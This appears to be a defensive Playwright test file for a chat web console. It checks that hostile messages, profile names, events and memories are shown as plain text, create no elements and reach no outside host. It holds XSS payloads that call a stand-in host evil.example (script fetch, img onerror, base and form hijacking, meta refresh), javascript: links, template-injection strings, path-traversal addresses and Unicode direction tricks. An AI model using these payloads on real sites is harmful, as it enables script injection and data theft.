"""Hostile texts wherever others may put one: they are shown as text, nothing runs, nothing leaves."""

from __future__ import annotations

from urllib.parse import urlsplit

import anyio
import pytest
from playwright.async_api import Browser

from tests.console.browser import Tab, signed_in
from tests.console.conftest import Street
from tests.injection.corpus import HOSTILE
from thenvoi_bridge.bridge.untrusted import visible
from thenvoi_bridge.contract.agents import RegisterMyAgent
from thenvoi_bridge.contract.contacts import AddMyContact
from thenvoi_bridge.contract.events import SendEvent
from thenvoi_bridge.contract.identity import UpdateMyProfile
from thenvoi_bridge.contract.lifecycle import MarkFailed, MarkProcessing
from thenvoi_bridge.contract.memories import StoreMemory
from thenvoi_bridge.contract.messages import ChatMessage, ListMyMessages, Mention, SendMyMessage

pytestmark = [pytest.mark.thorough, pytest.mark.timeout(240)]

MARKUP = (
    "<script>fetch('https://evil.example/')</script>",
    "<img src=https://evil.example/x onerror=fetch('https://evil.example/')>",
    "<svg onload=alert(1)><style>@import 'https://evil.example/'</style>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '"><base href="https://evil.example/"><form action="https://evil.example/"><button>Sign in</button>',
    "<a href='javascript:alert(1)'>the answer</a> https://evil.example/ javascript:alert(1)",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} __proto__ constructor",
)
"""What wants to be more than text."""

TEXTS = (*MARKUP, *HOSTILE)


KINDS = (
    "script", "style", "iframe", "img", "object", "embed", "base", "meta", "link", "template",
    "a:not([href^='#'])",
)  # fmt: skip


async def elements(it: Tab) -> dict[str, int]:
    """How many elements there are of kinds that the console does not make, or only once."""
    counted: dict[str, int] = await it.page.evaluate(
        "kinds => Object.fromEntries(kinds.map(k => [k, document.querySelectorAll(k).length]))", [*KINDS]
    )
    return counted


async def said(street: Street, room: str) -> list[ChatMessage]:
    """All of a room, oldest first, as the platform has it."""
    pages = [
        await street.alice.call(ListMyMessages(chat_id=room, page=page, page_size=100))
        for page in range(1, 7)
    ]
    return [message for page in pages for message in page.data][::-1]


async def test_every_hostile_text_is_shown_as_it_stands(browser: Browser, street: Street) -> None:
    room = await street.here.room(street.alice, street.bob)
    mentions = [Mention(id=street.alice.id)]
    texts = [text.strip() for text in TEXTS if "\0" not in text]
    for text in texts:
        await street.bob.call(SendMyMessage(chat_id=room.id, content=text, mentions=mentions))
    async with signed_in(browser, street.here, street.alice) as it:
        before = await elements(it)
        await it.page.locator(".rooms a").click()
        await it.page.locator(".entry").first.wait_for()
        more = it.page.get_by_role("button", name="Earlier messages")
        while await more.is_visible():
            count = await it.page.locator(".entry").count()
            await more.click()
            await it.page.wait_for_function("n => document.querySelectorAll('.entry').length > n", arg=count)
        shown = await it.page.locator(".entry .body").all_text_contents()
        kept = [message.content for message in await said(street, room.id)]
        name = f"@{street.alice.name}"
        assert shown == [visible(content.replace(f"@[[{street.alice.id}]]", name)) for content in kept]
        assert len(shown) == len(texts)
        assert await elements(it) == before


async def test_hostile_names_events_reasons_memories_and_requests_are_text(
    browser: Browser, street: Street
) -> None:
    here, alice, scout = street.here, street.alice, street.scout
    carol = await here.person("Carol Poe", "Partner")
    room = await here.room(alice, scout, street.bob)
    for text in (*MARKUP, "\u202eevil\u2066", "__proto__"):
        await street.bob.call(UpdateMyProfile(first_name=text[:100]))
        sent = SendMyMessage(chat_id=room.id, content=text, mentions=[Mention(id=scout.id)])
        message = (await street.bob.call(sent)).id
        await scout.call(MarkProcessing(chat_id=room.id, message_id=message))
        await scout.call(MarkFailed(chat_id=room.id, message_id=message, error=text))
        event = SendEvent(
            chat_id=room.id, content=text, message_type="error", metadata={text: {"name": text}}
        )
        await scout.call(event)
        await scout.call(
            SendEvent(chat_id=room.id, content=f'{{"name": "{text[:5]}"}}', message_type="tool_call")
        )
        await alice.call(RegisterMyAgent(name=text[:100], description=text))
        memory = StoreMemory(
            content=text,
            system="long_term",
            type="semantic",
            segment="user",
            thought=text,
            subject_id=alice.id,
        )
        await scout.call(memory)
    await carol.call(UpdateMyProfile(first_name=MARKUP[1][:100]))
    await carol.call(AddMyContact(recipient_handle=alice.handle, message=MARKUP[0]))
    async with signed_in(browser, here, alice) as it:
        before = await elements(it)
        await it.page.locator(".rooms a").click()
        for summary in await it.page.locator(".entry.event summary").all():
            await summary.click()
        assert await elements(it) == before
        for page in ("Agents", "Contacts", "Memories"):
            await it.page.get_by_role("link", name=page).click()
            await it.page.locator(".cards li").first.wait_for()
            assert await elements(it) == before
            assert "<" in await it.page.locator(".cards").first.inner_text()
        await it.page.get_by_role("searchbox", name="Search").fill("evil.example")
        await it.page.locator(".found .hit mark").first.wait_for()
        assert await elements(it) == before
        await it.page.get_by_role("searchbox", name="Search").fill("__proto__ bob")
        await it.page.locator(".found a.place .handle", has_text="with __proto__").wait_for()
        assert await elements(it) == before


async def test_hostile_words_are_looked_for_and_hostile_addresses_lead_nowhere(
    browser: Browser, street: Street
) -> None:
    room = await street.here.room(street.alice, street.bob)
    mentions = [Mention(id=street.alice.id)]
    words = (*MARKUP, "(((", "[a-", "a\\", ".*+?^${}()|[]\\/", "\u0130stanbul")
    for text in words:
        await street.bob.call(SendMyMessage(chat_id=room.id, content=text, mentions=mentions))
    async with signed_in(browser, street.here, street.alice) as it:
        before = await elements(it)
        await it.open_room(MARKUP[0][:20])
        for text in words:
            await it.page.get_by_role("searchbox", name="Search").fill(text)
            await it.page.locator(".found .hit").first.wait_for()
        assert await elements(it) == before
        await it.page.keyboard.press("Escape")
        for address in (MARKUP[1], "..", "%2e%2e%2fprofile", "../../admin"):
            await it.page.goto(f"{street.here.url}/console/#/rooms/{address}")
            await it.page.get_by_text("You are not in this room.").wait_for()
            await it.page.goto(f"{street.here.url}/console/#/agents")
        assert await elements(it) == before
        paths = {urlsplit(url).path for url in it.seen.addresses}
        assert all(path.startswith(("/console/", "/api/v1/me/", "/api/v1/socket/")) for path in paths)
        assert not {path for path in paths if path in ("/api/v1/me/", "/api/v1/me/chats/")}


async def test_what_is_not_seen_is_written_out_and_can_be_told_from_what_was_written(
    browser: Browser, street: Street
) -> None:
    room = await street.here.room(street.alice, street.bob)
    mention = [Mention(id=street.alice.id)]
    text = "abc\u202edef\u2069 \u200b \U000e0041 tab\there \\u{202e}"
    await street.bob.call(SendMyMessage(chat_id=room.id, content=text, mentions=mention))
    async with signed_in(browser, street.here, street.alice) as it:
        await it.page.locator(".rooms a").click()
        written = it.page.locator(".entry .written-out")
        await written.first.wait_for()
        assert await written.all_text_contents() == ["\\u{202e}", "\\u{2069}", "\\u{200b}", "\\u{e0041}"]
        title = await it.page.locator("h1").text_content()
        assert title == visible(text)


async def test_a_long_text_is_folded_until_somebody_asks(browser: Browser, street: Street) -> None:
    room = await street.here.room(street.alice, street.bob)
    text = "\n".join(f"line {n}" for n in range(400))
    mention = [Mention(id=street.alice.id)]
    await street.bob.call(SendMyMessage(chat_id=room.id, content=text, mentions=mention))
    async with signed_in(browser, street.here, street.alice) as it:
        await it.page.locator(".rooms a").click()
        body = it.page.locator(".entry .body")
        await body.wait_for()
        folded = await body.bounding_box()
        await it.page.get_by_role("button", name="Show all of it").click()
        unfolded = await body.bounding_box()
        assert folded
        assert unfolded
        assert folded["height"] < 300 < 4000 < unfolded["height"]
        await it.page.get_by_role("button", name="Show less").click()


async def test_this_corpus_would_be_noticed(browser: Browser, street: Street) -> None:
    """What the tests above look for is there once a text is made into elements."""
    async with signed_in(browser, street.here, street.alice) as it:
        before = await elements(it)
        with pytest.raises(Exception, match="TrustedHTML"):  # the policy alone already stops it
            await it.page.evaluate("text => document.body.insertAdjacentHTML('beforeend', text)", MARKUP[1])
        for attributes in (
            "{href: 'javascript:alert(1)'}",
            "{onclick: 'alert(1)'}",
            "{src: 'x'}",
            "{style: 'x'}",
        ):
            with pytest.raises(Exception, match=r"may not be set|stay on this page"):
                await it.page.evaluate(f"import('./dom.js').then(({{ h }}) => h('a', {attributes}))")
        await it.page.evaluate("document.body.append(document.createElement('img'))")
        assert (await elements(it))["img"] == before["img"] + 1
        await it.page.evaluate("fetch('https://evil.example/').catch(() => {})")
        with anyio.fail_after(5):
            while not it.seen.wrong:
                await it.page.wait_for_timeout(20)
        assert any("Content Security Policy" in line for line in it.seen.wrong)
        it.seen.wrong.clear()
        it.seen.elsewhere.clear()
